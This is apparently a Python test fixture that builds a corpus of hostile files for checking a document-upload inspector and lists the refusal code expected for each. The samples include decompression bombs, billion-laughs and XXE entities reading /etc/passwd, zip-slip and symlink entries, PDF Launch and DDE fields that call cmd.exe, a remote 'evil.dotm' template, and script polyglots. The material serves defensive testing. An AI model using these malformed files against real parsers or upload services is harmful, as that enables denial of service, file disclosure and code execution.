"""The hostile corpus (恶意文件集), made when a test asks for it and never kept as binary.

`HOSTILE` maps a name to (file name, maker, outcome). The outcome is the refusal's code, or
"rebuilt" where the file is accepted and the clean copy is harmless.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream
from PIL import Image

from tests.filings.inspection.office_files import (
    W,
    document_xml,
    docx,
    relationship,
    relationships_xml,
    xlsx,
    zipped,
)

AS_IS = {"compress_streams": False, "stream_decode_level": pikepdf.StreamDecodeLevel.none}
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


# ---- PDF


def pdf(pages: int = 1, change: Callable[[pikepdf.Pdf], None] | None = None, **save) -> bytes:
    """A PDF of blank pages, changed by `change`."""
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page()
    if change:
        change(document)
    file = io.BytesIO()
    document.save(file, **save)
    return file.getvalue()


def _content(data: bytes, filters, **extra) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        stream = Stream(document, b"")
        stream.write(data, filter=filters)
        for key, value in extra.items():
            stream[f"/{key}"] = value
        document.pages[0].Contents = document.make_indirect(stream)

    return change


def pdf_stream_bomb() -> bytes:
    return pdf(change=_content(_deflated_pattern(200_000_000), Name.FlateDecode))


def _deflated_pattern(size: int) -> bytes:
    squeeze = zlib.compressobj(9)
    block = b"0 " * 500_000
    return b"".join(
        [squeeze.compress(block) for _ in range(size // len(block))] + [squeeze.flush()]
    )


def pdf_nested_flate() -> bytes:
    twice = zlib.compress(_deflated_pattern(20_000_000), 9)
    filters = Array([Name.FlateDecode, Name.FlateDecode])
    return pdf(change=_content(twice, filters), **AS_IS)


def pdf_run_length_bomb() -> bytes:
    return pdf(change=_content(b"\x81 " * 500_000, Name.RunLengthDecode), **AS_IS)


def pdf_lzw_bomb() -> bytes:
    """Ever longer runs of one byte, each code one longer than the last."""
    bits, width = [], 9
    for _ in range(9):
        bits.append(f"{256:0{width}b}")
        for size, code in enumerate([32, *range(258, 4090)], start=258):
            width = 12 if size > 2047 else 11 if size > 1023 else 10 if size > 511 else 9
            bits.append(f"{code:0{width}b}")
    joined = "".join(bits)
    joined += "0" * (-len(joined) % 8)
    coded = int(joined, 2).to_bytes(len(joined) // 8)
    return pdf(change=_content(coded, Name.LZWDecode), **AS_IS)


def pdf_jpx_bomb() -> bytes:
    size = struct.pack(">HH8L", 41, 0, 60000, 60000, 0, 0, 60000, 60000, 0, 0)
    return pdf(change=_picture(b"\xff\x4f\xff\x51" + size + b"\0" * 20, Name.JPXDecode))


def pdf_jbig2_bomb() -> bytes:
    page = struct.pack(">LBBBL", 0, 48, 0, 1, 19) + struct.pack(">LLLLBH", 90000, 90000, 0, 0, 0, 0)
    return pdf(change=_picture(page, Name.JBIG2Decode))


def _picture(data: bytes, coding: Name, width: int = 10, height: int = 10):
    def change(document: pikepdf.Pdf) -> None:
        picture = Stream(document, data)
        picture.Type, picture.Subtype = Name.XObject, Name.Image
        picture.Width, picture.Height = width, height
        picture.BitsPerComponent, picture.ColorSpace = 8, Name.DeviceGray
        picture.Filter = coding
        document.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=picture))
        document.pages[0].Contents = Stream(document, b"/Im0 Do")

    return change


def pdf_objstm_many() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.Many = Array([document.make_indirect(Array([])) for _ in range(300_000)])

    return pdf(change=change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_page_loop() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.Pages.Kids.append(document.Root.Pages)

    return pdf(change=change)


def pdf_deep() -> bytes:
    return pdf().replace(b"/Type /Catalog", b"/Type /Catalog /Deep " + b"[" * 200_000)


def pdf_self_drawing() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        form = document.make_indirect(Stream(document, b"/F Do /F Do"))
        form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 9, 9])
        form.Resources = Dictionary(XObject=Dictionary(F=form))
        document.pages[0].Resources = Dictionary(XObject=Dictionary(F=form))
        document.pages[0].Contents = Stream(document, b"/F Do")

    return pdf(change=change)


def pdf_lattice() -> bytes:
    """Forms that each draw the next ten times: harmless to store, endless to walk naively."""

    def change(document: pikepdf.Pdf) -> None:
        below = document.make_indirect(Stream(document, b"0 0 1 1 re f"))
        below.Type, below.Subtype, below.BBox = Name.XObject, Name.Form, Array([0, 0, 9, 9])
        for _ in range(25):
            form = document.make_indirect(Stream(document, b"/F0 Do " * 10))
            form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 9, 9])
            form.Resources = Dictionary(XObject=Dictionary({f"/F{n}": below for n in range(10)}))
            below = form
        document.pages[0].Resources = Dictionary(XObject=Dictionary(F0=below))

    return pdf(change=change)


def pdf_js_attach() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
        document.attachments["a.exe"] = b"MZ"

    return pdf(change=change)


def pdf_page_action() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        launch = Dictionary(S=Name.Launch, F="cmd.exe")
        document.pages[0].AA = Dictionary(O=launch)
        document.pages[0].Annots = Array(
            [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=launch)]
        )

    return pdf(change=change)


def pdf_xfa() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.AcroForm = Dictionary(XFA=Stream(document, b"<xdp/>"), Fields=Array([]))

    return pdf(change=change)


def pdf_dynamic_xfa() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.AcroForm = Dictionary(XFA=Stream(document, b"<xdp/>"), Fields=Array([]))
        document.Root.NeedsRendering = True

    return pdf(change=change)


def pdf_portfolio() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.Collection = Dictionary(Type=Name.Collection)

    return pdf(change=change)


def pdf_truncated() -> bytes:
    whole = pdf(5)
    return whole[: len(whole) * 2 // 3]


def pdf_encrypted() -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="主", user="用"))


# ---- office


def _zip_with(change: Callable[[zipfile.ZipFile], None]) -> bytes:
    file = io.BytesIO(docx())
    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as archive:
        change(archive)
    return file.getvalue()


def docx_billion_laughs() -> bytes:
    chain = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return docx(parts={"word/document.xml": f'<!DOCTYPE x [<!ENTITY a0 "ha">{chain}]><x>&a9;</x>'})


def docx_quadratic() -> bytes:
    text = f'<!DOCTYPE x [<!ENTITY a "{"a" * 100_000}">]><x>{"&a;" * 20_000}</x>'
    return docx(parts={"word/document.xml": text})


_XXE = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>'


def docx_utf16_dtd() -> bytes:
    text = '<?xml version="1.0" encoding="UTF-16"?>' + _XXE
    return docx(parts={"word/document.xml": text.encode("utf-16")})


def docx_utf7() -> bytes:
    text = '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-'
    return docx(parts={"word/document.xml": text})


def docx_zip_bomb() -> bytes:
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = b"".join([squeeze.compress(bytes(10**7)) for _ in range(50)] + [squeeze.flush()])
    return _raw_entry("word/media/image1.png", data, 500_000_000)


def _raw_entry(name: str, deflated: bytes, size: int) -> bytes:
    """A DOCX with one part whose compressed bytes are given."""
    whole = _zip_with(lambda archive: archive.writestr(name, b""))
    at = whole.rindex(b"PK\x03\x04", 0, whole.index(b"PK\x01\x02"))
    encoded = name.encode()
    local = (
        struct.pack(
            "<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, len(deflated), size, len(encoded), 0
        )
        + encoded
        + deflated
    )
    directory = whole[whole.index(b"PK\x01\x02") : whole.rindex(b"PK\x05\x06")]
    last = directory.rindex(b"PK\x01\x02")
    entry = (
        struct.pack(
            "<4s6H3L5H2L",
            b"PK\x01\x02",
            20,
            20,
            0,
            8,
            0,
            0,
            0,
            len(deflated),
            size,
            len(encoded),
            0,
            0,
            0,
            0,
            0,
            at,
        )
        + encoded
    )
    directory = directory[:last] + entry
    count = directory.count(b"PK\x01\x02")
    end = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), at + len(local), 0
    )
    return whole[:at] + local + directory + end


def docx_big_document_xml() -> bytes:
    return docx("<w:p/>" * 3_000_000)


def docx_deep() -> bytes:
    depth = 200_000
    return docx("<w:sdt>" * depth + "</w:sdt>" * depth)


def docx_lying_size() -> bytes:
    whole = bytearray(docx("<w:p/>" * 1000))
    at = whole.index(b"word/document.xml", whole.index(b"PK\x01\x02")) - 46
    struct.pack_into("<L", whole, at + 24, 10)
    return bytes(whole)


def docx_dup_part() -> bytes:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return _zip_with(lambda archive: archive.writestr("word/document.xml", document_xml("")))


def docx_overlapping() -> bytes:
    whole = bytearray(docx())
    first = whole.index(b"PK\x01\x02")
    second = whole.index(b"PK\x01\x02", first + 4)
    struct.pack_into("<L", whole, second + 42, 10)
    return bytes(whole)


def docx_symlink() -> bytes:
    link = zipfile.ZipInfo("word/media/link.png")
    link.external_attr = 0o120777 << 16
    return _zip_with(lambda archive: archive.writestr(link, "/etc/passwd"))


def docx_many_parts() -> bytes:
    def change(archive: zipfile.ZipFile) -> None:
        for number in range(70_000):
            archive.writestr(zipfile.ZipInfo(f"a/{number}"), b"")

    return _zip_with(change)


def docx_remote_template() -> bytes:
    return _docx_template("https://example.com/evil.dotm")


def _docx_template(target: str) -> bytes:
    return docx(
        references=(relationship("rId9", "settings", "settings.xml"),),
        parts={
            "word/settings.xml": f'<w:settings xmlns:w="{W}" xmlns:r="http://schemas.openxmlformats'
            '.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/>'
            "</w:settings>",
            "word/_rels/settings.xml.rels": relationships_xml(
                relationship("rId1", "attachedTemplate", target, external=True)
            ),
        },
    )


def docx_local_template() -> bytes:
    return _docx_template("file:///C:\\Users\\wang\\Normal.dotm")


def docx_dde() -> bytes:
    return docx(
        '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText>'
        "</w:r></w:p>"
    )


def ruined_as_text() -> bytes:
    """A DOCX after a transfer that turned every line feed into CR LF."""
    noise = zlib.compress(b"".join(struct.pack(">L", n * 2654435761 % 2**32) for n in range(9000)))
    return docx(parts={"word/media/a.png": noise}).replace(b"\n", b"\r\n")


# ---- pictures


def jpg(width: int = 64, height: int = 48, mode: str = "RGB", **save) -> bytes:
    file = io.BytesIO()
    Image.linear_gradient("L").resize((width, height)).convert(mode).save(file, "JPEG", **save)
    return file.getvalue()


def jpg_gps() -> bytes:
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (35.0, 45.0, 0.0)}
    exif[0x010F] = "SECRETCAMERA"
    return jpg(exif=exif)


def png_pixel_flood() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))
        )

    header = struct.pack(">LLBBBBB", 60000, 60000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", b"x\x9c\x03\0\0\0\0\1")


def apng() -> bytes:
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue", "green")]
    file = io.BytesIO()
    frames[0].save(file, "PNG", save_all=True, append_images=frames[1:])
    return file.getvalue()


EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "svg_script": ("a.svg", lambda: b"<svg onload=alert(1)>", "wrong_type"),
    "html_as_pdf": ("a.pdf", lambda: b"<!doctype html><script>", "wrong_type"),
    "exe": ("a.pdf", lambda: b"MZ\x90\0" + bytes(200), "wrong_type"),
    "empty": ("a.pdf", lambda: b"", "empty"),
    "eps": ("a.jpg", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n", "wrong_type"),
    "ole_doc": (
        "a.docx",
        lambda: OLE + bytes(600) + "WordDocument\0".encode("utf-16-le"),
        "old_word",
    ),
    "ole_encrypted": (
        "a.docx",
        lambda: OLE + bytes(600) + "EncryptedPackage\0".encode("utf-16-le"),
        "office_password",
    ),
    "eicar": ("a.pdf", lambda: EICAR, "wrong_type"),
    "gif_polyglot": ("a.png", lambda: b"GIF89a/*\0\0*/=1;alert(1)", "wrong_type"),
    "jpg_appended_html": ("a.jpg", lambda: jpg() + b"<script>alert(1)</script>", "rebuilt"),
    "jpg_gps": ("a.jpg", jpg_gps, "rebuilt"),
    "jpg_truncated": ("a.jpg", lambda: jpg(400, 300)[:-200], "damaged"),
    "png_pixel_flood": ("a.png", png_pixel_flood, "too_many_pixels"),
    "apng": ("a.png", apng, "rebuilt"),
    "pdf_stream_bomb": ("a.pdf", pdf_stream_bomb, "expands"),
    "pdf_nested_flate": ("a.pdf", pdf_nested_flate, "expands"),
    "pdf_run_length_bomb": ("a.pdf", pdf_run_length_bomb, "expands"),
    "pdf_lzw_bomb": ("a.pdf", pdf_lzw_bomb, "expands"),
    "pdf_jpx_bomb": ("a.pdf", pdf_jpx_bomb, "too_many_pixels"),
    "pdf_jbig2_bomb": ("a.pdf", pdf_jbig2_bomb, "too_many_pixels"),
    "pdf_declared_pixels": (
        "a.pdf",
        lambda: pdf(change=_picture(zlib.compress(b""), Name.FlateDecode, 99999, 99999)),
        "too_many_pixels",
    ),
    "pdf_objstm_many": ("a.pdf", pdf_objstm_many, "pdf_structure"),
    "pdf_page_loop": ("a.pdf", pdf_page_loop, "damaged"),
    "pdf_deep": ("a.pdf", pdf_deep, "damaged"),
    "pdf_self_drawing": ("a.pdf", pdf_self_drawing, "pdf_structure"),
    "pdf_lattice": ("a.pdf", pdf_lattice, "rebuilt"),
    "pdf_1001_pages": ("a.pdf", lambda: pdf(1001), "too_many_pages"),
    "pdf_encrypted": ("a.pdf", pdf_encrypted, "pdf_password"),
    "pdf_js_attach": ("a.pdf", pdf_js_attach, "rebuilt"),
    "pdf_page_action": ("a.pdf", pdf_page_action, "rebuilt"),
    "pdf_xfa": ("a.pdf", pdf_xfa, "rebuilt"),
    "pdf_dynamic_xfa": ("a.pdf", pdf_dynamic_xfa, "pdf_form"),
    "pdf_portfolio": ("a.pdf", pdf_portfolio, "pdf_portfolio"),
    "pdf_truncated": ("a.pdf", pdf_truncated, "rebuilt"),
    "polyglot_pdf_html": ("a.pdf", lambda: b"<html><script></script>" + pdf(), "wrong_type"),
    "polyglot_pdf_zip": ("a.pdf", lambda: pdf() + zipped({"a.txt": "x"}), "polyglot"),
    "docx_billion_laughs": ("a.docx", docx_billion_laughs, "dtd"),
    "docx_quadratic": ("a.docx", docx_quadratic, "dtd"),
    "docx_xxe": ("a.docx", lambda: docx(parts={"word/document.xml": _XXE}), "dtd"),
    "docx_utf16_dtd": ("a.docx", docx_utf16_dtd, "dtd"),
    "docx_utf7": ("a.docx", docx_utf7, "zip_structure"),
    "docx_zip_bomb": ("a.docx", docx_zip_bomb, "expands"),
    "docx_big_document_xml": ("a.docx", docx_big_document_xml, "expands"),
    "docx_deep": ("a.docx", docx_deep, "expands"),
    "docx_lying_size": ("a.docx", docx_lying_size, "zip_structure"),
    "docx_dup_part": ("a.docx", docx_dup_part, "zip_structure"),
    "docx_overlapping": ("a.docx", docx_overlapping, "damaged"),
    "docx_zip_slip": (
        "a.docx",
        lambda: _zip_with(lambda z: z.writestr("../../tmp/pwn", "x")),
        "zip_structure",
    ),
    "docx_symlink": ("a.docx", docx_symlink, "zip_structure"),
    "docx_70k_parts": ("a.docx", docx_many_parts, "zip_structure"),
    "docx_macro": ("a.docx", lambda: docx(parts={"word/vbaProject.bin": b"x"}), "macro"),
    "docx_ole_embed": (
        "a.docx",
        lambda: docx(parts={"word/embeddings/oleObject1.bin": b"MZ"}),
        "embedded",
    ),
    "docx_packed_file": (
        "a.docx",
        lambda: docx(
            parts={"word/embeddings/oleObject1.bin": OLE + "\x01Ole10Native\0".encode("utf-16-le")}
        ),
        "embedded",
    ),
    "docx_remote_template": ("a.docx", docx_remote_template, "remote"),
    "docx_share_template": ("a.docx", lambda: _docx_template("\\\\host\\a.dotm"), "remote"),
    "docx_local_template": ("a.docx", docx_local_template, "rebuilt"),
    "docx_dde": ("a.docx", docx_dde, "active_field"),
    "docx_prefixed": ("a.docx", lambda: b"#!/bin/sh\n" + docx(), "unknown_type"),
    "docx_appended": ("a.docx", lambda: docx() + b"<script>alert(1)</script>", "polyglot"),
    "zip_as_docx": ("a.docx", lambda: zipped({"a.txt": "x"}), "plain_zip"),
    "xlsx_macro_sheet": (
        "a.xlsx",
        lambda: xlsx(parts={"xl/macrosheets/sheet1.xml": "<x/>"}),
        "macro",
    ),
    "xlsx_connections": (
        "a.xlsx",
        lambda: xlsx(parts={"xl/connections.xml": "<x/>"}),
        "data_connection",
    ),
    "ruined_as_text": ("a.docx", ruined_as_text, "text_mode"),
}
